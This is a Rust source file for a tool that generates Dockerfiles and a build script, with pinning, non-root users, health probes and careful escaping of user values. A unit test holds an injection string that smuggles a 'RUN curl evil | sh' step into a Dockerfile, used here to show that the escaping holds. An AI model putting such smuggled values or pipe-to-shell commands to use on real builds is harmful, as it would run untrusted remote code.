//! Dockerfiles: one per image definition at `images/<name>/Dockerfile`, and
//! `images/build.sh`, which builds them all in the graph's build order (bases
//! first). Rendered with handlebars from `stdlib/templates/` (embedded in the
//! binary): `base.Dockerfile.hbs` for an image without a template, one file
//! per `template` (go, node, python, ruby, java, static), and three partials.
//!
//! Decisions:
//!
//! - **Layers.** An image whose `from` is another definition builds `FROM
//!   <project>/<parent>:<instance>` — the local tag `build.sh` gives the parent
//!   (`messenger-production/go_runtime:production`). Templates are multi-stage:
//!   a pinned toolchain image builds the code (`golang:…`, `node:…`, `python:…`,
//!   `ruby:…`, `maven:…`), and the run stage copies the result onto `from`. The
//!   toolchain's version comes from the `<LANG>_VERSION` build argument, else
//!   from the chain's pinned root (`node:20.11.1-bookworm-slim` builds with
//!   `node:20.11.1-bookworm`), else a pinned default.
//! - **User.** Every Dockerfile ends with `USER <uid>:<uid>` (the image's `user`,
//!   else the nearest ancestor's, else 10001). Commands that need root (`steps`
//!   in a run stage, a parent's `onbuild`) switch to `USER 0:0` first.
//! - **Health.** The components built from an image decide its `HEALTHCHECK`
//!   when every long-running one declares the same check; otherwise, and for
//!   layers, `HEALTHCHECK NONE` with a comment saying why (compose and
//!   CloudFormation carry each component's own check). An HTTP or TCP check
//!   runs `bomc-healthcheck`, a static binary compiled from the Go standard
//!   library in a `probe` stage, so it works in any runtime image with no curl,
//!   wget or shell (and so nothing needs unpinned apt/apk packages).
//! - **Build order.** `images/build.sh` runs `docker build` for each image in
//!   `graph::build_order`, with its context: `context` relative to the folder of
//!   the `.bom` file bomc was given (`BOMC_SOURCE_DIR` overrides it), the
//!   `.bom` folder for a template without `context`, and the image's own
//!   output folder (just the Dockerfile) for a layer without one.
//! - **Data stays data.** Every string from a `.bom` file is encoded for its
//!   place: exec-form JSON arrays for `RUN` steps, `ENTRYPOINT`, `CMD` and the
//!   health command; double-quoted words with `\`, `"` and `$` escaped for
//!   `LABEL` and `ARG`; control characters (a newline) as escape text. Names,
//!   paths and versions that cannot be quoted are checked against a strict
//!   character set, and a value that does not fit is a diagnostic.

use super::{Artifact, BuildContext};
use crate::diag::{Diagnostic, ErrorCode};
use crate::model::{Component, Image, Part, Value};
use handlebars::Handlebars;
use serde::Serialize;
use std::collections::{BTreeMap, BTreeSet};

/// The user a container runs as when no image in the chain says.
const DEFAULT_USER: i64 = 10001;
/// The toolchain that compiles `bomc-healthcheck` (Go's own for Go images).
const PROBE_IMAGE: &str = "golang:1.22.1-bookworm";
/// Where the health probe lives in the image.
const PROBE_PATH: &str = "/usr/local/bin/bomc-healthcheck";

const TEMPLATES: &[(&str, &str)] = &[
    (
        "base",
        include_str!("../../../stdlib/templates/base.Dockerfile.hbs"),
    ),
    (
        "go",
        include_str!("../../../stdlib/templates/go.Dockerfile.hbs"),
    ),
    (
        "node",
        include_str!("../../../stdlib/templates/node.Dockerfile.hbs"),
    ),
    (
        "python",
        include_str!("../../../stdlib/templates/python.Dockerfile.hbs"),
    ),
    (
        "ruby",
        include_str!("../../../stdlib/templates/ruby.Dockerfile.hbs"),
    ),
    (
        "java",
        include_str!("../../../stdlib/templates/java.Dockerfile.hbs"),
    ),
    (
        "static",
        include_str!("../../../stdlib/templates/static.Dockerfile.hbs"),
    ),
];

const PARTIALS: &[(&str, &str)] = &[
    (
        "_header",
        include_str!("../../../stdlib/templates/_header.hbs"),
    ),
    (
        "_probe",
        include_str!("../../../stdlib/templates/_probe.hbs"),
    ),
    (
        "_runtime",
        include_str!("../../../stdlib/templates/_runtime.hbs"),
    ),
];

/// The toolchain image of each template that has a build stage:
/// (template, version argument, official repository of the language, default version, image).
struct Toolchain {
    template: &'static str,
    arg: &'static str,
    runtime: &'static str,
    default: &'static str,
    image: fn(&str) -> String,
}

const TOOLCHAINS: &[Toolchain] = &[
    Toolchain {
        template: "go",
        arg: "GO_VERSION",
        runtime: "golang",
        default: "1.22.1",
        image: |v| format!("golang:{v}-bookworm"),
    },
    Toolchain {
        template: "node",
        arg: "NODE_VERSION",
        runtime: "node",
        default: "20.11.1",
        image: |v| format!("node:{v}-bookworm"),
    },
    Toolchain {
        template: "python",
        arg: "PYTHON_VERSION",
        runtime: "python",
        default: "3.12.2",
        image: |v| format!("python:{v}-bookworm"),
    },
    Toolchain {
        template: "ruby",
        arg: "RUBY_VERSION",
        runtime: "ruby",
        default: "3.3.0",
        image: |v| format!("ruby:{v}-bookworm"),
    },
    Toolchain {
        template: "java",
        arg: "JAVA_VERSION",
        runtime: "eclipse-temurin",
        default: "21",
        image: |v| format!("maven:3.9.6-eclipse-temurin-{v}"),
    },
];

/// What a template sees. Every value from the `.bom` file is already encoded
/// for the place it goes; templates only place text.
#[derive(Serialize)]
struct View {
    header: String,
    name: String,
    tag: String,
    /// Comment lines under the header.
    notes: Vec<String>,
    /// The run stage's base: a pinned reference or a parent's local tag.
    from: String,
    /// The build stage's toolchain image (templates with a build stage).
    build_from: String,
    /// The probe stage's image, when the health check needs the probe.
    probe: Option<String>,
    /// `NAME="value"`.
    args: Vec<String>,
    /// `"key"="value"`.
    labels: Vec<String>,
    /// Exec-form JSON arrays.
    steps: Vec<String>,
    /// Instructions, without `ONBUILD`.
    onbuild: Vec<String>,
    copy_context: bool,
    /// `uid:uid`.
    user: String,
    expose: Vec<String>,
    health_notes: Vec<String>,
    /// What follows `HEALTHCHECK`: options and `CMD [...]`, or `NONE`.
    healthcheck: String,
    entrypoint: Option<String>,
    command: Option<String>,
}

fn registry() -> Handlebars<'static> {
    let mut hb = Handlebars::new();
    hb.set_strict_mode(true);
    hb.set_prevent_indent(true);
    // Dockerfiles are not HTML: values are encoded here, per place, instead.
    hb.register_escape_fn(handlebars::no_escape);
    for (name, text) in PARTIALS {
        hb.register_partial(name, *text)
            .expect("embedded partials parse (checked by a unit test)");
    }
    for (name, text) in TEMPLATES {
        hb.register_template_string(name, *text)
            .expect("embedded templates parse (checked by a unit test)");
    }
    hb
}

/// The Dockerfiles of every image the landscape uses, and `images/build.sh`.
pub fn emit(ctx: &BuildContext) -> Result<Vec<Artifact>, Vec<Diagnostic>> {
    if ctx.landscape.images.is_empty() {
        return Ok(Vec::new());
    }
    let images: BTreeMap<&str, &Image> = ctx
        .landscape
        .images
        .iter()
        .map(|i| (i.name.as_str(), i))
        .collect();
    let tags = tags(ctx)?;
    let order = order(ctx, &images);
    let hb = registry();
    let mut diags = Vec::new();
    let mut artifacts = Vec::new();
    for image in &order {
        let mut out = Errors::new(image);
        let view = view(ctx, image, &images, &tags, &mut out);
        if !out.diags.is_empty() {
            diags.append(&mut out.diags);
            continue;
        }
        let template = image
            .settings
            .get("template")
            .and_then(Value::as_str)
            .filter(|t| TEMPLATES.iter().any(|(n, _)| n == t))
            .unwrap_or("base");
        match hb.render(template, &view) {
            Ok(text) => artifacts.push(Artifact {
                path: format!("images/{}/Dockerfile", image.name),
                contents: tidy(&text),
            }),
            Err(e) => diags.push(
                Diagnostic::new(
                    ErrorCode::InvalidValue,
                    format!(
                        "the Dockerfile of image `{}` cannot be rendered: {e}",
                        image.name
                    ),
                )
                .label(image.span, "in this image"),
            ),
        }
    }
    if !diags.is_empty() {
        return Err(diags);
    }
    artifacts.push(Artifact {
        path: String::from("images/build.sh"),
        contents: build_script(ctx, &order, &tags),
    });
    Ok(artifacts)
}

/// Collapses runs of blank lines and ends the file with one newline.
fn tidy(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut blank = false;
    for line in text.lines() {
        let line = line.trim_end();
        if line.is_empty() {
            blank = true;
            continue;
        }
        if blank && !out.is_empty() {
            out.push('\n');
        }
        blank = false;
        out.push_str(line);
        out.push('\n');
    }
    out
}

/// Diagnostics about one image.
struct Errors<'a> {
    image: &'a Image,
    diags: Vec<Diagnostic>,
}

impl<'a> Errors<'a> {
    fn new(image: &'a Image) -> Self {
        Errors {
            image,
            diags: Vec::new(),
        }
    }

    fn invalid(&mut self, message: String, help: impl Into<String>) {
        self.diags.push(
            Diagnostic::new(ErrorCode::InvalidValue, message)
                .label(self.image.span, "in this image")
                .help(help),
        );
    }
}

/// Images in build order (bases first), then any the graph does not know.
fn order<'a>(ctx: &BuildContext, images: &BTreeMap<&str, &'a Image>) -> Vec<&'a Image> {
    let mut seen = BTreeSet::new();
    let mut out = Vec::new();
    for name in crate::graph::build_order(ctx.graph) {
        if let Some(image) = images.get(name.as_str())
            && seen.insert(image.name.as_str())
        {
            out.push(*image);
        }
    }
    for (name, image) in images {
        if seen.insert(name) {
            out.push(*image);
        }
    }
    out
}

// ---------------------------------------------------------------------------
// Tags

/// `go_auth` → `go_auth`, `GoAuth` → `goauth`: a Docker repository path
/// component (`[a-z0-9]+` joined by `.`, `_`, `__` or dashes).
fn repository(name: &str) -> String {
    let lower = name.to_ascii_lowercase();
    let mut out = String::new();
    let mut sep = String::new();
    for c in lower.chars() {
        if c.is_ascii_alphanumeric() {
            if !out.is_empty() && !sep.is_empty() {
                let ok = sep == "_" || sep == "__" || sep == "." || sep.chars().all(|c| c == '-');
                out.push_str(if ok { &sep } else { "-" });
            }
            sep.clear();
            out.push(c);
        } else {
            sep.push(c);
        }
    }
    if out.is_empty() {
        String::from("image")
    } else {
        out
    }
}

/// The local tag of every image: `<project>/<image>:<instance>`.
fn tags(ctx: &BuildContext) -> Result<BTreeMap<String, String>, Vec<Diagnostic>> {
    let project = ctx.project();
    let instance = &ctx.instance;
    let valid_tag = !instance.is_empty()
        && instance.len() <= 128
        && instance.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
        && instance
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'));
    if !valid_tag || instance == "latest" {
        return Err(vec![Diagnostic::new(
            ErrorCode::NameNotValid,
            format!("environment instance `{instance}` cannot tag the images it builds"),
        )
        .help("images are tagged `<project>/<image>:<instance>`, and `latest` is not a pinned tag: rename the environment")]);
    }
    let mut tags = BTreeMap::new();
    let mut owners: BTreeMap<String, &str> = BTreeMap::new();
    let mut diags = Vec::new();
    for image in &ctx.landscape.images {
        let repo = repository(&image.name);
        if let Some(other) = owners.insert(repo.clone(), &image.name) {
            diags.push(
                Diagnostic::new(
                    ErrorCode::NameNotValid,
                    format!(
                        "images `{other}` and `{}` would both be tagged `{project}/{repo}`",
                        image.name
                    ),
                )
                .label(image.span, "same image name as another, in lowercase")
                .help("Docker image names are lowercase: rename one of the images"),
            );
        }
        tags.insert(image.name.clone(), format!("{project}/{repo}:{instance}"));
    }
    if diags.is_empty() {
        Ok(tags)
    } else {
        Err(diags)
    }
}

// ---------------------------------------------------------------------------
// The view of one image

fn parent(image: &Image) -> Option<&str> {
    match image.settings.get("from") {
        Some(Value::Image(p)) => Some(p),
        _ => None,
    }
}

/// The image and its ancestors, nearest first (stops at a cycle).
fn chain<'a>(image: &'a Image, images: &BTreeMap<&str, &'a Image>) -> Vec<&'a Image> {
    let mut out = vec![image];
    let mut seen = BTreeSet::from([image.name.as_str()]);
    let mut current = image;
    while let Some(p) = parent(current).and_then(|p| images.get(p)) {
        if !seen.insert(p.name.as_str()) {
            break;
        }
        out.push(*p);
        current = p;
    }
    out
}

fn view(
    ctx: &BuildContext,
    image: &Image,
    images: &BTreeMap<&str, &Image>,
    tags: &BTreeMap<String, String>,
    out: &mut Errors,
) -> View {
    let name = &image.name;
    let template = image.settings.get("template").and_then(Value::as_str);
    let chain = chain(image, images);
    let mut notes = Vec::new();

    // The run stage's base.
    let from = match image.settings.get("from") {
        Some(Value::Image(p)) => match tags.get(p) {
            Some(tag) => {
                notes.push(format!(
                    "Layer on `{p}` ({tag}): build images/{p}/Dockerfile first, as images/build.sh does."
                ));
                tag.clone()
            }
            None => {
                out.invalid(
                    format!("image `{name}` builds on `{p}`, which is not an image definition of this landscape"),
                    "set `from` to a pinned image or to an `image` defined in the file",
                );
                String::new()
            }
        },
        Some(Value::String(s)) => {
            if base_reference(s) {
                notes.push(format!("Base image: {s} (pinned)."));
            } else {
                out.invalid(
                    format!("`from` of image `{name}` is not an image reference bomc can write into a Dockerfile"),
                    "write a pinned reference such as `debian:12.5-slim` or `repo/name@sha256:…`: letters, digits and `._-/:@+` only",
                );
            }
            s.clone()
        }
        _ => {
            out.invalid(
                format!("image `{name}` has no usable `from`"),
                "set `from = \"debian:12.5-slim\"` (a pinned image) or `from = OTHER_IMAGE`",
            );
            String::new()
        }
    };
    if let Some(t) = template {
        notes.push(format!("Template: {t}."));
    }

    // The build context, as build.sh passes it.
    let context = match image.settings.get("context") {
        Some(v) => match image_text(v) {
            Ok(c) => Some(c),
            Err(why) => {
                out.invalid(
                    format!("`context` of image `{name}` is {why}"),
                    "write the build context as a path relative to the .bom file",
                );
                None
            }
        },
        None => None,
    };
    match &context {
        Some(c) => notes.push(format!(
            "Build context: {} (relative to the .bom file).",
            comment(c)
        )),
        None if template.is_some() => {
            notes.push(String::from("Build context: the folder of the .bom file."))
        }
        None => {}
    }

    // Build arguments.
    let mut args = Vec::new();
    let mut arg_values = BTreeMap::new();
    if let Some(v) = image.settings.get("args") {
        match string_map(v) {
            Ok(map) => {
                for (k, v) in map {
                    if !is_identifier(&k) {
                        out.invalid(
                            format!("build argument `{}` of image `{name}` is not a valid ARG name", k.escape_debug()),
                            "name build arguments like environment variables: letters, digits and `_`, not starting with a digit",
                        );
                        continue;
                    }
                    args.push(format!("{k}={}", quoted(&v)));
                    arg_values.insert(k, v);
                }
            }
            Err(why) => out.invalid(
                format!("`args` of image `{name}` holds {why}"),
                "build arguments are plain strings",
            ),
        }
    }

    // The build stage's toolchain.
    let mut build_from = String::new();
    if let Some(tc) = TOOLCHAINS.iter().find(|t| Some(t.template) == template) {
        build_from = match arg_values.get(tc.arg) {
            Some(version) if is_version(version) => (tc.image)(version),
            Some(version) => {
                out.invalid(
                    format!("build argument `{}` = {:?} of image `{name}` is not a version", tc.arg, version),
                    format!("`{}` picks the build stage's toolchain image: write a version such as `{}`", tc.arg, tc.default),
                );
                String::new()
            }
            None => chain
                .last()
                .and_then(|root| root.settings.get("from"))
                .and_then(Value::as_str)
                .and_then(|root| toolchain_from_root(tc, root))
                .unwrap_or_else(|| (tc.image)(tc.default)),
        };
        notes.push(format!("Build stage toolchain: {build_from}."));
    }

    // Steps, entrypoint, command.
    let mut list = |setting: &str| -> Option<Vec<String>> {
        let v = image.settings.get(setting)?;
        match string_list(v) {
            Ok(items) => Some(items),
            Err(why) => {
                out.invalid(
                    format!("`{setting}` of image `{name}` holds {why}"),
                    format!("`{setting}` is a list of plain strings"),
                );
                None
            }
        }
    };
    let steps: Vec<String> = list("steps")
        .unwrap_or_default()
        .iter()
        .map(|s| json_array(&[String::from("/bin/sh"), String::from("-c"), s.clone()]))
        .collect();
    let mut entrypoint = list("entrypoint").map(|l| json_array(&l));
    let mut command = list("command").map(|l| json_array(&l));
    let onbuild_items = list("onbuild").unwrap_or_default();
    let mut onbuild = Vec::new();
    for item in &onbuild_items {
        match onbuild_instruction(item) {
            Ok(i) => onbuild.push(i),
            Err(help) => out.invalid(
                format!(
                    "`onbuild` instruction {:?} of image `{name}` cannot be written safely",
                    item
                ),
                help,
            ),
        }
    }
    if entrypoint.is_none() && command.is_none() {
        (entrypoint, command) = default_process(template, context.as_deref(), name, &mut notes);
    }

    // The user: the image's, else the nearest ancestor's, else the default.
    let uid = chain
        .iter()
        .find_map(|i| i.settings.get("user").and_then(Value::as_int))
        .unwrap_or(DEFAULT_USER);
    if !(1..=2_147_483_647).contains(&uid) {
        out.invalid(
            format!("user {uid} of image `{name}` is not a non-root user id"),
            "containers run as a numeric non-root user, e.g. `10001`",
        );
    }
    let user = format!("{uid}:{uid}");

    // The components built from this image: ports and health check.
    let builders: Vec<&Component> = ctx
        .landscape
        .components
        .iter()
        .filter(|c| matches!(c.settings.get("build"), Some(Value::Image(i)) if i == name))
        .collect();
    let expose: Vec<String> = builders
        .iter()
        .flat_map(|c| c.ports().into_values())
        .filter(|p| (1..=65_535).contains(p))
        .collect::<BTreeSet<i64>>()
        .into_iter()
        .map(|p| p.to_string())
        .collect();
    let (health, health_notes) = image_health(&builders);
    let probe = match &health {
        Some(h) if h.probe => Some(if template == Some("go") && !build_from.is_empty() {
            build_from.clone()
        } else {
            String::from(PROBE_IMAGE)
        }),
        _ => None,
    };
    let healthcheck = match &health {
        Some(h) => {
            let mut text = h.options.join(" ");
            if !text.is_empty() {
                text.push(' ');
            }
            text.push_str("CMD ");
            text.push_str(&json_array(&h.command));
            text
        }
        None => String::from("NONE"),
    };

    let labels = labels(ctx, image, &from, out);

    let copy_context = template.is_none()
        && context.is_some()
        && !parent(image).and_then(|p| images.get(p)).is_some_and(|p| {
            p.settings
                .get("onbuild")
                .is_some_and(|o| !matches!(o, Value::List(l) if l.is_empty()))
        });

    View {
        header: comment(&ctx.header()),
        name: name.clone(),
        tag: tags.get(name).cloned().unwrap_or_default(),
        notes,
        from,
        build_from,
        probe,
        args,
        labels,
        steps,
        onbuild,
        copy_context,
        user,
        expose,
        health_notes,
        healthcheck,
        entrypoint,
        command,
    }
}

/// `"key"="value"` for every label: OCI's, then the image's own, then bomc's
/// (which nothing overrides).
fn labels(ctx: &BuildContext, image: &Image, from: &str, out: &mut Errors) -> Vec<String> {
    let name = &image.name;
    let mut labels: BTreeMap<String, String> = BTreeMap::new();
    labels.insert("org.opencontainers.image.title".into(), name.clone());
    let description = image.docs.join(" ");
    if !description.trim().is_empty() {
        labels.insert(
            "org.opencontainers.image.description".into(),
            description.trim().to_string(),
        );
    }
    labels.insert(
        "org.opencontainers.image.base.name".into(),
        from.to_string(),
    );
    if let Some(v) = image.settings.get("labels") {
        match string_map(v) {
            Ok(map) => {
                for (k, v) in map {
                    if k.trim().is_empty() {
                        out.invalid(
                            format!("image `{name}` has a label with an empty key"),
                            "name every label",
                        );
                    } else if k.starts_with("org.bomc.") {
                        out.invalid(
                            format!(
                                "label `{}` of image `{name}` is in bomc's namespace",
                                k.escape_debug()
                            ),
                            "bomc sets the `org.bomc.*` labels itself: choose another key",
                        );
                    } else {
                        labels.insert(k, v);
                    }
                }
            }
            Err(why) => out.invalid(
                format!("`labels` of image `{name}` holds {why}"),
                "labels are plain strings",
            ),
        }
    }
    for (k, v) in ctx.labels() {
        labels.insert(format!("org.bomc.{k}"), v);
    }
    let mut lines = Vec::new();
    for (k, v) in &labels {
        if let Some(text) = [k, v].into_iter().find(|t| !lintable(t)) {
            out.invalid(
                format!("label `{}` of image `{name}` has a backslash before a quote or at the end: {:?}", k.escape_debug(), text),
                "Docker would read it, but hadolint misreads such a LABEL line: drop the backslash or put a space after it",
            );
        }
        lines.push(format!("{}={}", quoted(k), quoted(v)));
    }
    lines
}

/// What a template runs when the image sets neither `entrypoint` nor `command`.
fn default_process(
    template: Option<&str>,
    context: Option<&str>,
    name: &str,
    notes: &mut Vec<String>,
) -> (Option<String>, Option<String>) {
    let argv = |items: &[&str]| {
        Some(json_array(
            &items.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
        ))
    };
    match template {
        Some("go") => {
            let binary = context
                .and_then(|c| std::path::Path::new(c).file_name())
                .and_then(|n| n.to_str())
                .unwrap_or(name);
            notes.push(String::from(
                "Entrypoint: the binary named after the context folder (set `entrypoint` to choose another).",
            ));
            (Some(json_array(&[format!("/app/{binary}")])), None)
        }
        Some("node") => (None, argv(&["node", "."])),
        Some("ruby") => (None, argv(&["bin/rails", "server", "--binding", "0.0.0.0"])),
        Some("java") => (None, argv(&["java", "-jar", "/app/app.jar"])),
        _ => (None, None),
    }
}

/// A pinned toolchain image matching the chain's root: `node:20.11.1-bookworm-slim`
/// → `node:20.11.1-bookworm`, `eclipse-temurin:21.0.2_13-jre` → `maven:…-temurin-21`.
fn toolchain_from_root(tc: &Toolchain, root: &str) -> Option<String> {
    let (repo, tag) = root.split_once(':')?;
    if repo != tc.runtime || tag.contains('@') || !base_reference(root) {
        return None;
    }
    if tc.template == "java" {
        let major: String = tag.chars().take_while(char::is_ascii_digit).collect();
        return (!major.is_empty()).then(|| (tc.image)(&major));
    }
    let tag = tag.replacen("-slim", "", 1);
    is_version(&tag).then(|| format!("{repo}:{tag}"))
}

// ---------------------------------------------------------------------------
// Health

mod encode;
mod health;

use encode::*;
use health::*;

fn build_script(ctx: &BuildContext, order: &[&Image], tags: &BTreeMap<String, String>) -> String {
    let source_dir = ctx.source_dir.display().to_string();
    let source_dir = if source_dir.is_empty() {
        String::from(".")
    } else {
        source_dir
    };
    let mut s = String::new();
    s.push_str("#!/bin/sh\n");
    s.push_str(&format!("# {}\n", comment(&ctx.header())));
    s.push_str("#\n");
    s.push_str(&format!(
        "# Builds the images of landscape `{}` ({}) in dependency order, bases first,\n",
        ctx.landscape.name, ctx.instance
    ));
    s.push_str("# each tagged <project>/<image>:<instance> — the tag the images built on it use in FROM.\n");
    s.push_str(
        "# Build contexts are relative to the folder of the .bom file: run this script from\n",
    );
    s.push_str(
        "# the folder bomc ran in (`sh <out>/images/build.sh`), or set BOMC_SOURCE_DIR to\n",
    );
    s.push_str("# the .bom file's folder.\n");
    s.push_str("set -eu\n");
    s.push_str("images=$(cd \"$(dirname \"$0\")\" && pwd)\n");
    s.push_str(&format!(
        "source_dir=${{BOMC_SOURCE_DIR:-{}}}\n",
        sh_quote(&source_dir)
    ));
    for image in order {
        let name = &image.name;
        let tag = tags.get(name).map(String::as_str).unwrap_or_default();
        let context = match image.settings.get("context").map(image_text) {
            Some(Ok(c)) if std::path::Path::new(&c).is_absolute() => sh_quote(&c),
            Some(Ok(c)) => format!("\"$source_dir\"/{}", sh_quote(&c)),
            _ if image.settings.contains_key("template") => String::from("\"$source_dir\""),
            _ => format!("\"$images/{name}\""),
        };
        s.push('\n');
        s.push_str(&format!("echo {}\n", sh_quote(&format!("+ {tag}"))));
        s.push_str(&format!(
            "docker build --file \"$images/{name}/Dockerfile\" --tag {} {context}\n",
            sh_quote(tag)
        ));
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn templates_parse() {
        let hb = registry();
        for (name, _) in TEMPLATES {
            assert!(hb.has_template(name), "{name}");
        }
    }

    #[test]
    fn json_strings_stay_in_one_array_element() {
        let s = json_string("x\"]\nRUN curl evil | sh \\");
        assert!(!s.contains('\n'));
        let back: String = serde_json::from_str(&s).unwrap();
        assert_eq!(back, "x\"]\nRUN curl evil | sh \\");
    }

    #[test]
    fn quoted_words_escape_what_docker_interprets() {
        assert_eq!(quoted("a\"b\\c${HOME}"), r#""a\"b\\c\${HOME}""#);
        assert_eq!(quoted("x\nRUN y"), r#""x\nRUN y""#);
    }

    #[test]
    fn repositories_are_docker_names() {
        assert_eq!(repository("go_auth"), "go_auth");
        assert_eq!(repository("GoAuth"), "goauth");
        assert_eq!(repository("_a__b___c-_d"), "a__b-c-d");
        assert_eq!(repository("a--b"), "a--b");
        assert_eq!(repository("_"), "image");
    }

    #[test]
    fn onbuild_instructions_are_rewritten_or_refused() {
        assert_eq!(
            onbuild_instruction("COPY requirements.txt /app/requirements.txt").unwrap(),
            r#"COPY ["requirements.txt", "/app/requirements.txt"]"#
        );
        assert_eq!(
            onbuild_instruction("RUN pip install -r x.txt").unwrap(),
            r#"RUN ["/bin/sh", "-c", "pip install -r x.txt"]"#
        );
        assert_eq!(
            onbuild_instruction("ENV A=\"b c\"").unwrap(),
            r#"ENV A="b c""#
        );
        assert!(onbuild_instruction("COPY ${X} /app").is_err());
        assert!(onbuild_instruction("COPY --from=x a b").is_err());
        assert!(onbuild_instruction("USER 0").is_err());
        assert!(onbuild_instruction("RUN a\nRUN b").is_err());
        assert!(onbuild_instruction("WORKDIR relative").is_err());
    }

    #[test]
    fn toolchains_follow_the_root() {
        let node = TOOLCHAINS.iter().find(|t| t.template == "node").unwrap();
        assert_eq!(
            toolchain_from_root(node, "node:20.11.1-bookworm-slim").as_deref(),
            Some("node:20.11.1-bookworm")
        );
        assert_eq!(toolchain_from_root(node, "debian:12.5-slim"), None);
        let java = TOOLCHAINS.iter().find(|t| t.template == "java").unwrap();
        assert_eq!(
            toolchain_from_root(java, "eclipse-temurin:21.0.2_13-jre").as_deref(),
            Some("maven:3.9.6-eclipse-temurin-21")
        );
    }
}
